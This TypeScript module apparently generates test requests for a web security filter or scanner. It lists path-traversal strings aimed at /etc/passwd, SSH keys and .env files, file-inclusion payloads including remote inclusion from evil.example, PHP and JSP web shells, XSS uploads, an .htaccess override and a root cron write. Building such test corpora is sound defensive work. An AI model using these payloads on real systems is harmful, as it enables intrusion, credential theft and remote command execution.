import { createAuthor, type Draft, encode } from "./draft.ts";

/** Files that nobody offered (traversal, inclusion) and files that nobody should accept (uploads). */
export function fileAttacks(): Draft[] {
  return [...traversal(), ...inclusion(), ...uploads()];
}

function traversal(): Draft[] {
  const { get } = createAuthor("traversal");
  const reads = { oracle: "secret-file", expectDirect: 200 } as const;
  const names = [
    "../../../../etc/passwd",
    "../../config/secret.yml",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/shadow",
    "%252e%252e%252f%252e%252e%252fconfig%252fsecret.yml",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "....//....//config/secret.yml",
    "....%2f%2f....%2f%2fserver.js",
    "..%5c..%5c..%5c..%5cwindows%5cwin.ini",
    "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afconfig/secret.yml",
    "/etc/passwd",
    "%2fetc%2fpasswd",
    "//etc//passwd",
    "./../downloads/../../server.js",
    "manual-lantern.txt/../../../config/secret.yml",
    "../../../../etc/passwd%00.txt",
    "../../../../etc/passwd%00",
    "C:\\windows\\win.ini",
    "../../../../proc/self/environ",
    "../../../../root/.ssh/id_rsa",
    "../../.env",
    "..//..//..//..//etc/./passwd",
  ];
  const paths = [
    "/static/../../config/secret.yml",
    "/static/..%2f..%2fconfig%2fsecret.yml",
    "/static/%2e%2e/%2e%2e/server.js",
    "/static/..%5c..%5cserver.js",
    "/static/%252e%252e/%252e%252e/server.js",
    "/static/....//....//server.js",
    "/uploads/../../config/secret.yml",
    "/uploads/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd",
    "/uploads/..\\..\\server.js",
    "/uploads//../../../../etc/passwd",
  ];
  const missing = ["../../../../etc/nginx/nginx.conf", "../../../../var/lib/mlocate/mlocate.db", "..%u2216..%u2216etc%u2216passwd"];
  return [
    ...names.map((name) => get(`/download?file=${name}`, reads)),
    ...paths.map((path) => get(path, reads)),
    ...missing.map((name) => get(`/download?file=${name}`, { expectDirect: 404 })),
  ];
}

function inclusion(): Draft[] {
  const { get, send } = createAuthor("lfi");
  const reads = { oracle: "secret-file", expectDirect: 200 } as const;
  const runs = { oracle: "shell-output", expectDirect: 200 } as const;
  const script = Buffer.from('<?php system("id"); ?>').toString("base64");
  return [
    get("/download?file=php://filter/convert.base64-encode/resource=/etc/passwd", reads),
    get("/download?file=php://filter/read=convert.base64-encode/resource=../../config/secret.yml", reads),
    get("/download?file=PHP://FILTER/resource=../../server.js", reads),
    get("/download?file=php%3A%2F%2Ffilter%2Fstring.rot13%2Fresource%3D..%2F..%2Fserver.js", reads),
    get("/download?file=file:///etc/passwd", reads),
    get("/download?file=file%3A%2F%2Flocalhost%2Fetc%2Fpasswd", reads),
    get("/download?file=FiLe:/etc/shadow", reads),
    get("/download?file=expect://id", runs),
    get("/download?file=expect%3A%2F%2Fcat%20%2Fetc%2Fpasswd", runs),
    get(`/download?file=data://text/plain;base64,${script}`, runs),
    get(`/download?file=${encode("data:text/plain,<?php system('whoami'); ?>")}`, runs),
    send("POST", "/download?file=php://input", "<?php system('id'); ?>", { ...runs, headers: { "content-type": "text/plain" } }),
    get("/download?file=http://evil.example/shell.txt", { expectDirect: 200 }),
    get("/download?file=https%3A%2F%2Fevil.example%2Fshell.txt%3F", { expectDirect: 200 }),
    get("/download?file=zip://uploads/photo.jpg%23shell", { expectDirect: 404 }),
    get("/download?file=phar://uploads/photo.jpg/shell.php", { expectDirect: 404 }),
  ];
}

function uploads(): Draft[] {
  const { get, multipart, send } = createAuthor("upload");
  const shell = "<?php system($_GET['c']); ?>";
  const file = (fileName: string, contentType: string, value: string) => [{ name: "file", fileName, contentType, value }];
  const pair = (name: string, fileName: string, contentType: string, value: string, path: string, proof?: string) => [
    multipart("/upload", file(fileName, contentType, value), { scenario: `upload-${name}`, expectDirect: 201, from: "chrome" }),
    get(path, {
      scenario: `upload-${name}`,
      oracle: "active-upload",
      expectDirect: 200,
      from: "chrome",
      ...(proof === undefined ? {} : { proof }),
      // A script asked for with its command is an attack itself, and so is the name of a script.
      ...(/\.(?:x?html|svg)$/.test(path) ? { look: true as const } : {}),
    }),
  ];
  return [
    ...pair("html", "offer.html", "text/html", "<script>alert(51001)</script>", "/uploads/offer.html", "51001"),
    ...pair(
      "svg",
      "logo.svg",
      "image/svg+xml",
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(51002)"/>',
      "/uploads/logo.svg",
      "51002",
    ),
    ...pair("xhtml", "page.xhtml", "application/xhtml+xml", "<html><body onload='alert(51003)'/></html>", "/uploads/page.xhtml", "51003"),
    ...pair("php", "mug.php", "application/x-php", shell, "/uploads/mug.php?c=id"),
    ...pair("php-as-picture", "mug2.php", "image/jpeg", `GIF89a;${shell}`, "/uploads/mug2.php?c=cat+/etc/passwd"),
    ...pair("double-ending", "mug3.php.jpg", "image/jpeg", shell, "/uploads/mug3.php.jpg?c=id"),
    ...pair("upper-case", "mug4.PhP", "image/png", "<?= shell_exec('id') ?>", "/uploads/mug4.PhP"),
    ...pair("phtml", "mug5.phtml", "text/plain", "<?php echo 51006*7; ?>", "/uploads/mug5.phtml", "357042"),
    ...pair("jsp", "mug6.jsp", "application/octet-stream", '<% Runtime.getRuntime().exec("id"); %>', "/uploads/mug6.jsp"),
    ...pair("nul", "mug7.php\0.jpg", "image/jpeg", shell, "/uploads/mug7.php%00.jpg?c=id"),
    ...pair("folder", "../uploads/mug8.html", "text/html", "<svg onload=alert(51008)>", "/uploads/mug8.html", "51008"),
    multipart("/upload", file(".htaccess", "text/plain", "AddType application/x-httpd-php .jpg"), { expectDirect: 201 }),
    multipart("/upload", file("web.config", "text/xml", "<configuration/>"), { expectDirect: 201 }),
    multipart("/upload", file("../../../../etc/cron.d/mug", "text/plain", "* * * * * root id"), { expectDirect: 201 }),
    send("PUT", "/uploads/mug9.php", shell, { scenario: "upload-put", expectDirect: 201, from: "java" }),
    get("/uploads/mug9.php?c=whoami;id", { scenario: "upload-put", oracle: "active-upload", expectDirect: 200, from: "java" }),
  ];
}
